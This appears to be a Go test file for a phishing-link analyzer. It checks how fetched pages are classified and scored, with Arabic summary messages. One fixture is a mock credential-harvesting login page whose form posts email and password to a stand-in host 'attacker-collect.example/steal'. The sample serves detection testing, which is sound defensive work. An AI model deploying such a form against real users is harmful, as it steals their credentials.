package links

import (
	"context"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/aman-security/aman/pkg/httputil"
)

func newTestAnalyzer(timeout time.Duration) *ContentAnalyzer {
	return NewContentAnalyzer(timeout, httputil.NewSemaphore(5))
}

func TestFetchAndClassifyPlainPage(t *testing.T) {
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		_, _ = w.Write([]byte("<html><head><title>شركة أمثلة</title></head><body><p>مرحباً</p></body></html>"))
	}))
	defer server.Close()

	v := newTestAnalyzer(5 * time.Second).FetchAndClassify(context.Background(), server.URL)

	if !v.Accessible {
		t.Fatal("expected accessible page")
	}
	if v.FetchStatus != FetchOK {
		t.Errorf("FetchStatus = %q, want ok", v.FetchStatus)
	}
	if v.RiskScore != 0 {
		t.Errorf("plain page risk = %d, want 0 (flags: %v)", v.RiskScore, v.Flags)
	}
	if v.PageTitle != "شركة أمثلة" {
		t.Errorf("PageTitle = %q", v.PageTitle)
	}
	if v.ContentSummary != "✅ صفحة عادية" {
		t.Errorf("ContentSummary = %q", v.ContentSummary)
	}
}

func TestFetchAndClassifyLoginHarvester(t *testing.T) {
	// Attacker page: login form posting credentials to a different host.
	page := `<html><head><title>تسجيل الدخول</title></head><body>
		<form action="http://attacker-collect.example/steal">
			<input type="email" name="email" placeholder="البريد">
			<input type="password" name="password">
		</form></body></html>`
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		_, _ = w.Write([]byte(page))
	}))
	defer server.Close()

	v := newTestAnalyzer(5 * time.Second).FetchAndClassify(context.Background(), server.URL)

	if v.ContentType != ContentLogin {
		t.Errorf("ContentType = %q, want login", v.ContentType)
	}
	if !v.HasPasswordField || !v.HasEmailField || !v.HasLoginForm {
		t.Errorf("field detection: password=%v email=%v login=%v",
			v.HasPasswordField, v.HasEmailField, v.HasLoginForm)
	}
	if !v.FormActionExternal {
		t.Error("expected external form action detection")
	}
	// login form (30) + external form (30)
	if v.RiskScore != 60 {
		t.Errorf("risk = %d, want 60 (flags: %v)", v.RiskScore, v.Flags)
	}
	if v.ContentSummary != "⚠️ صفحة تسجيل دخول تطلب إيميل وكلمة مرور" {
		t.Errorf("ContentSummary = %q", v.ContentSummary)
	}
	if len(v.FieldsDetected) != 2 {
		t.Errorf("FieldsDetected = %v, want 2 entries", v.FieldsDetected)
	}
}

func TestFetchAndClassifyCardPage(t *testing.T) {
	page := `<html><body><form action="/pay">
		<input name="card_number" placeholder="رقم البطاقة">
		<input name="cvv">
	</form></body></html>`
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		_, _ = w.Write([]byte(page))
	}))
	defer server.Close()

	v := newTestAnalyzer(5 * time.Second).FetchAndClassify(context.Background(), server.URL)

	if v.ContentType != ContentPayment {
		t.Errorf("ContentType = %q, want payment", v.ContentType)
	}
	if v.RiskScore != 50 {
		t.Errorf("risk = %d, want 50", v.RiskScore)
	}
	if v.ContentSummary != "🚨 صفحة تطلب بيانات بطاقة بنكية!" {
		t.Errorf("ContentSummary = %q", v.ContentSummary)
	}
	// Relative form action stays internal.
	if v.FormActionExternal {
		t.Error("relative action must not count as external")
	}
}

func TestFetchAndClassifyRedirect(t *testing.T) {
	final := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		_, _ = w.Write([]byte("<html><body>ok</body></html>"))
	}))
	defer final.Close()

	redirecting := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, final.URL+"/landing", http.StatusFound)
	}))
	defer redirecting.Close()

	v := newTestAnalyzer(5 * time.Second).FetchAndClassify(context.Background(), redirecting.URL)

	if !v.Redirected {
		t.Fatal("expected redirect detection")
	}
	if v.RiskScore != 15 {
		t.Errorf("risk = %d, want 15", v.RiskScore)
	}
	if !strings.HasPrefix(v.FinalURL, final.URL) {
		t.Errorf("FinalURL = %q, want prefix %q", v.FinalURL, final.URL)
	}
	if v.ContentSummary != "↪️ تم التوجيه لموقع آخر" {
		t.Errorf("ContentSummary = %q", v.ContentSummary)
	}
}

func TestFetchAndClassifyHTTPError(t *testing.T) {
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.WriteHeader(http.StatusForbidden)
	}))
	defer server.Close()

	v := newTestAnalyzer(5 * time.Second).FetchAndClassify(context.Background(), server.URL)

	if v.Accessible {
		t.Error("403 page must not be accessible")
	}
	if v.FetchStatus != FetchHTTPError {
		t.Errorf("FetchStatus = %q, want http_error", v.FetchStatus)
	}
	if v.RiskScore != 0 {
		t.Errorf("http error risk = %d, want 0", v.RiskScore)
	}
}

func TestFetchAndClassifyTimeout(t *testing.T) {
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		time.Sleep(2 * time.Second)
	}))
	defer server.Close()

	v := newTestAnalyzer(100 * time.Millisecond).FetchAndClassify(context.Background(), server.URL)

	if v.Accessible {
		t.Error("timed-out page must not be accessible")
	}
	if v.FetchStatus != FetchTimeout {
		t.Errorf("FetchStatus = %q, want timeout", v.FetchStatus)
	}
	if v.RiskScore != 10 {
		t.Errorf("timeout risk = %d, want 10", v.RiskScore)
	}
}

func TestFetchAndClassifyUnreachable(t *testing.T) {
	// Nothing listens on loopback port 1, so the dial fails immediately.
	v := newTestAnalyzer(2 * time.Second).FetchAndClassify(context.Background(), "http://127.0.0.1:1/x")

	if v.Accessible {
		t.Error("unreachable host must not be accessible")
	}
	if v.FetchStatus != FetchNetworkError {
		t.Errorf("FetchStatus = %q, want network_error", v.FetchStatus)
	}
	if v.ArabicDescription != "❌ تعذر الوصول للرابط" {
		t.Errorf("ArabicDescription = %q", v.ArabicDescription)
	}
}
